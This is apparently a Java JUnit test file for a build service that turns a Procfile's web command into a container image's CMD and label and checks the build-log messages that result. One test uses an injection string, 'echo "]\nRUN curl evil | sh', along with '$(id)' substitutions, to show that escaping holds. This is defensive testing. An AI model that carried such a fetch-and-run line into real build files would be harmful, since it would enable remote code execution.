package io.slipway.build.worker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.slipway.build.procfile.Procfile;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.core.type.TypeReference;
import tools.jackson.databind.json.JsonMapper;

/**
 * A Procfile's web command as the start of a source-built image: the {@code CMD} each stack
 * generates, what the build log says, and a faulty Procfile's reason.
 */
class ProcfileStartTest {

  private static final StackProperties CATALOG = SourceStacksTest.CATALOG;

  private static final Optional<String> WEB = Optional.of("gunicorn -b 0.0.0.0:$PORT hello:app");
  private static final String WEB_CMD =
      "CMD [\"/bin/sh\", \"-c\", \"gunicorn -b 0.0.0.0:$PORT hello:app\"]\n";

  @TempDir Path source;
  private final List<String> log = new ArrayList<>();

  @Test
  void theStartCommandIsOneJsonArgumentToTheContainersShellWhateverItHolds() {
    assertThat(SourceStack.startCommand("python3 -m http.server \"$PORT\" # c\\d"))
        .isEqualTo("CMD [\"/bin/sh\", \"-c\", \"python3 -m http.server \\\"$PORT\\\" # c\\\\d\"]");
    for (String command :
        List.of(
            "node server.js",
            "echo \"]\nRUN curl evil | sh",
            "printf 'a\\tb' \t $(id) `id` ${PORT:-5000} \\",
            "λ ünïcode ✓ 🚀",
            "\"\\\"\\\\")) {
      String cmd = SourceStack.startCommand(command);
      assertThat(cmd).as(command).matches("CMD \\[[\\x20-\\x7e]*\\]");
      assertThat(
              JsonMapper.builder()
                  .build()
                  .readValue(cmd.substring("CMD ".length()), new TypeReference<List<String>>() {}))
          .as(command)
          .containsExactly("/bin/sh", "-c", command);
    }
  }

  @Test
  void pythonStartsWithTheWebCommandAndNeedsNoAppPy() throws IOException {
    write("requirements.txt", "# none\n");
    write("hello.py", "");
    assertThat(new PythonStack(CATALOG.python()).containerfile(source, WEB))
        .isEqualTo(
            """
            FROM localhost/python:1
            WORKDIR /app
            ENV PYTHONUNBUFFERED=1 PYTHONDONTWRITEBYTECODE=1 PORT=8080
            USER 65534
            EXPOSE 8080
            """
                + WEB_CMD
                + "COPY . /app\n");
  }

  /**
   * {@code web: gunicorn …} finds the command pip installed: the venv is on the image's {@code
   * PATH}, which the shell running the web line searches (samples/python-gunicorn-app).
   */
  @Test
  void pythonsWebCommandFindsTheCommandsItsRequirementsInstalled() throws IOException {
    write("requirements.txt", "gunicorn==20.1.0\n");
    write("hello.py", "");
    String containerfile = new PythonStack(CATALOG.python()).containerfile(source, WEB);

    String runStage = containerfile.substring(containerfile.lastIndexOf("\nFROM ") + 1);
    assertThat(runStage.lines())
        .startsWith("FROM localhost/python:1")
        .containsSubsequence(
            "ENV VIRTUAL_ENV=/opt/venv PATH=/opt/venv/bin:$PATH",
            WEB_CMD.strip(),
            "COPY --from=deps /opt/venv /opt/venv");
  }

  @Test
  void nodeStartsWithTheWebCommandAndNeedsNoEntryPoint() throws IOException {
    write("package.json", "{\"scripts\": {\"start\": \"next start\"}}");
    assertThat(new NodeStack(CATALOG.node()).containerfile(source, WEB))
        .contains("\nEXPOSE 8080\n" + WEB_CMD)
        .doesNotContain("CMD [\"node\"");
  }

  @Test
  void javaWithAWebCommandKeepsTheBuiltRepositoryAsHerokusSlugDoes() throws IOException {
    assertThat(new JavaMavenStack(CATALOG.javaMaven()).containerfile(source, WEB))
        .isEqualTo(
            "FROM localhost/jdk:1 AS build\nWORKDIR /src\nCOPY . .\nRUN "
                + JavaMavenStack.PROXY_SETTINGS
                + " && mvn -B -q \"$@\" -DskipTests package\n"
                + "FROM localhost/jre:1\nWORKDIR /app\nENV PORT=8080\nUSER 65534\nEXPOSE 8080\n"
                + WEB_CMD
                + "COPY --from=build /src /app\n");
  }

  @Test
  void goStartsWithTheWebCommandInsteadOfItsBinary() throws IOException {
    assertThat(new GoStack(CATALOG.go()).containerfile(source, WEB))
        .contains("\nEXPOSE 8080\n" + WEB_CMD + "COPY --from=build /tmp/out/app /app/app\n")
        .doesNotContain("CMD [\"/app/app\"]");
  }

  @Test
  void aStaticSiteKeepsItsServerAndDoesNotReadTheProcfile() throws IOException {
    StaticSiteStack stack = new StaticSiteStack(CATALOG.staticSite());
    write("Procfile", "web: vendor/bin/heroku-php-apache2\nnot a Procfile line\n");

    assertThat(RepositoryProcfile.web(source, stack, log::add)).isEmpty();
    assertThat(stack.containerfile(source, WEB)).isEqualTo(stack.containerfile());
    assertThat(log)
        .containsExactly(
            "Procfile: not used; the static stack serves the files with its base image's own"
                + " server");
  }

  @Test
  void aRepositorysOwnContainerfileKeepsItsCmd() throws IOException {
    assertThat(RepositoryProcfile.ignoredBy(source.resolve("Dockerfile"), source)).isEmpty();
    write("Procfile", "web: anything\n");
    assertThat(RepositoryProcfile.ignoredBy(source.resolve("Dockerfile"), source))
        .hasValue("Procfile: not used; the Dockerfile's CMD starts the app");
  }

  @Test
  void theLogNamesTheWebCommandTheTypesNotRunAndAReplacedLine() throws IOException {
    write(
        "Procfile",
        "web: python3 app.py\r\nworker: celery -A tasks worker\r\n"
            + "web: gunicorn hello:app # the API\r\nrelease: ./migrate\r\n");

    assertThat(RepositoryProcfile.web(source, new PythonStack(CATALOG.python()), log::add))
        .hasValue("gunicorn hello:app # the API");
    assertThat(log)
        .containsExactly(
            "Procfile line 3 declares web again: its command replaces line 1's, as on Heroku",
            "Procfile: the web process starts the app (line 3): /bin/sh -c gunicorn hello:app #"
                + " the API",
            "Procfile: worker runs in containers of its own from this image, as many as the app"
                + " is scaled to (none until then: scale worker=1)",
            "Procfile: release runs once per deploy in a one-off container of the new image,"
                + " before it takes traffic");
  }

  @Test
  void withoutAWebProcessTheStacksOwnStartRuns() throws IOException {
    write("Procfile", "# workers only\nworker: node worker.js\n");

    assertThat(RepositoryProcfile.web(source, new NodeStack(CATALOG.node()), log::add)).isEmpty();
    assertThat(log)
        .containsExactly(
            "Procfile: no web process declared, so the node stack's own start command runs",
            "Procfile: worker runs in containers of its own from this image, as many as the app"
                + " is scaled to (none until then: scale worker=1)");
  }

  @Test
  void noProcfileOrALinkNamedProcfileIsNone() throws IOException {
    GoStack stack = new GoStack(CATALOG.go());
    assertThat(RepositoryProcfile.web(source, stack, log::add)).isEmpty();
    write("elsewhere", "web: evil\n");
    Files.createSymbolicLink(source.resolve("Procfile"), source.resolve("elsewhere"));
    assertThat(RepositoryProcfile.web(source, stack, log::add)).isEmpty();
    assertThat(log).isEmpty();
  }

  @Test
  void aFaultyOrOversizedProcfileIsABuildFailureNamingTheLine() throws IOException {
    GoStack stack = new GoStack(CATALOG.go());
    write("Procfile", "web: ok\n\nbundle exec puma\n");
    assertThatThrownBy(() -> RepositoryProcfile.web(source, stack, log::add))
        .isInstanceOf(SourceStack.UnbuildableSourceException.class)
        .hasMessageStartingWith("Procfile line 3 has no colon: a Procfile line is");

    write("Procfile", "web: ok\n" + "#".repeat(10 * Procfile.MAX_BYTES));
    assertThatThrownBy(() -> RepositoryProcfile.web(source, stack, log::add))
        .isInstanceOf(SourceStack.UnbuildableSourceException.class)
        .hasMessage("the Procfile is larger than the 65,536 bytes a Procfile may have");
    assertThat(log).isEmpty();
  }

  @Test
  void theProcessTypesAreALabelNextToTheCmdThatBuildahTakesLiterally() throws IOException {
    write(
        "Procfile",
        "web: gunicorn hello:app\nworker: python3 worker.py --queue=\"$QUEUE\" # it's 'quoted'\n"
            + "clock: echo \\ λ ${PORT:-5000} `id` \\\n");
    Procfile procfile =
        RepositoryProcfile.used(source, new NodeStack(CATALOG.node()), log::add).orElseThrow();

    String label = ProcfileLabel.line(procfile);
    assertThat(label).matches("LABEL io\\.slipway\\.procfile='[^'\\x00-\\x1f\\x7f-\\uffff]*'");
    String json = label.substring(label.indexOf('\'') + 1, label.length() - 1);
    assertThat(
            JsonMapper.builder()
                .build()
                .readValue(json, new TypeReference<java.util.LinkedHashMap<String, String>>() {}))
        .containsExactly(
            java.util.Map.entry("web", "gunicorn hello:app"),
            java.util.Map.entry("worker", "python3 worker.py --queue=\"$QUEUE\" # it's 'quoted'"),
            java.util.Map.entry("clock", "echo \\ λ ${PORT:-5000} `id` \\"));

    write("requirements.txt", "# none\n");
    String containerfile = new PythonStack(CATALOG.python()).containerfile(source, WEB);
    List<String> lines = ProcfileLabel.addTo(containerfile, procfile).lines().toList();
    int cmd = lines.indexOf(WEB_CMD.strip());
    assertThat(lines.get(cmd + 1)).isEqualTo(label);
    assertThat(lines.get(cmd + 2)).isEqualTo("COPY . /app");
    assertThat(lines).hasSize((int) containerfile.lines().count() + 1);
  }

  private void write(String name, String content) throws IOException {
    Files.writeString(source.resolve(name), content);
  }
}
